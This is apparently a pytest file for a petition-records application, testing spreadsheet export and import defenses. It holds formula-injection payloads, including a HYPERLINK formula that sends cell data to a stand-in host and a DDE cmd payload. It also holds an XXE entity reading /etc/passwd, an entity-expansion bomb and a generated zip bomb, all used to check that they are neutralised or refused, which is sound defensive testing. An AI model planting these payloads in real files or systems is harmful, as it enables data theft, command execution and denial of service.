"""Sheets from and to a hostile world: formula injection in exports, CSV output, zip bombs, huge files, XXE."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from desk.cli import main
from desk.core.errors import DeskError
from desk.db.listing import ListQuery
from desk.petitions.service import save_petition
from desk.sheets.catalog import discover_sheets
from desk.sheets.reader import MAX_ROWS, read_table
from desk.sheets.writer import write_export, write_records

SPECS = discover_sheets()
ATTACKS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"点这里\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)")


def _petitions(database, actor):
    with database.sessions.begin() as session:
        for number, text in enumerate(ATTACKS):
            save_petition(session, actor, None, {
                "channel": "visit", "received_on": dt.date(2020, 3, 1 + number), "petitioner_name": "李秀梅",
                "category": "marriage", "summary": text, "first_receiver": text, "status": "received",
            })


def test_exported_text_is_never_a_formula_in_xlsx(database, actor, tmp_path):
    _petitions(database, actor)
    for writer, name in ((lambda s, p: write_export(s, SPECS["petitions"], ListQuery(), p), "list.xlsx"),
                         (lambda s, p: write_records(s, SPECS["petitions"], ListQuery(), p, full=True), "records.xlsx")):
        path = tmp_path / name
        with database.sessions() as session:
            assert writer(session, path) == len(ATTACKS)
        with zipfile.ZipFile(path) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml, name
        book = openpyxl.load_workbook(path)
        cells = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row
                 if isinstance(cell.value, str) and cell.value in ATTACKS]
        assert len(cells) >= len(ATTACKS)
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_out_csv_writes_real_csv_with_apostrophes_and_imports_again(database, actor, tmp_path):
    _petitions(database, actor)
    path = tmp_path / "petitions.csv"
    with database.sessions() as session:
        write_records(session, SPECS["petitions"], ListQuery(), path, full=True)
    data = path.read_bytes()
    assert not data.startswith(b"PK")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    texts = {value for row in rows[1:] for value in row}
    assert {"'" + text for text in ATTACKS} <= texts
    assert not any(value.startswith(("=", "+", "-", "@")) for value in texts)
    table = read_table(path)  # the apostrophe is the export's, not the data's
    assert {value for _number, row in table.rows for value in row} >= set(ATTACKS)


def test_an_export_to_another_ending_is_refused(db_path, tmp_path, capsys):
    assert main(["sheet", "export", "events", "--db", str(db_path), "--out", str(tmp_path / "out.txt")]) == 1
    assert "应以 .xlsx 或 .csv 结尾" in capsys.readouterr().err
    assert main(["sheet", "export", "events", "--db", str(db_path), "--out", str(tmp_path / "out.csv")]) == 0
    assert (tmp_path / "out.csv").read_bytes().startswith("\ufeff".encode())


def _xlsx_with(sheet_xml: bytes, path, extra: dict | None = None) -> None:
    book = openpyxl.Workbook()
    book.active.append(["活动名称", "日期"])
    book.active.append(["座谈会", "2020-3-3"])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" and sheet_xml else source.read(item)
            target.writestr(item, data, zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            target.writestr(name, data, zipfile.ZIP_DEFLATED)


def test_a_zip_bomb_is_refused_from_its_declared_sizes(tmp_path, monkeypatch):
    import tracemalloc

    path = tmp_path / "bomb.xlsx"
    _xlsx_with(b"", path, {"xl/media/padding.bin": b"\0" * (600 * 1024 * 1024)})
    assert path.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    with pytest.raises(DeskError, match="压缩炸弹"):
        read_table(path)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 50 * 1024 * 1024


def test_a_file_of_too_many_rows_is_refused_before_it_is_read_whole(tmp_path, monkeypatch):
    from desk.sheets import reader

    monkeypatch.setattr(reader, "MAX_ROWS", 50)
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x{n}</t></is></c>'
                   f'<c r="B{n}" t="inlineStr"><is><t>y</t></is></c></row>' for n in range(1, 200))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>').encode()
    path = tmp_path / "big.xlsx"
    _xlsx_with(sheet, path)  # no <dimension>: the rows are counted as they stream
    with pytest.raises(DeskError, match="超过 50 行"):
        read_table(path)
    declared = sheet.replace(b"<sheetData>", b'<dimension ref="A1:B200000"/><sheetData>')
    _xlsx_with(declared, tmp_path / "declared.xlsx")
    with pytest.raises(DeskError, match="有 199999 行"):
        read_table(tmp_path / "declared.xlsx")
    assert MAX_ROWS == 100_000


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
])
def test_xml_entities_are_refused_with_a_message(tmp_path, doctype):
    sheet = ('<?xml version="1.0" encoding="UTF-8"?>' + doctype + '<worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&amp;</t></is></c>'
             '<c r="B1" t="inlineStr"><is><t>日期</t></is></c></row></sheetData></worksheet>').encode()
    path = tmp_path / "xxe.xlsx"
    _xlsx_with(sheet, path)
    with pytest.raises(DeskError, match="不安全的 XML 内容"):
        read_table(path)
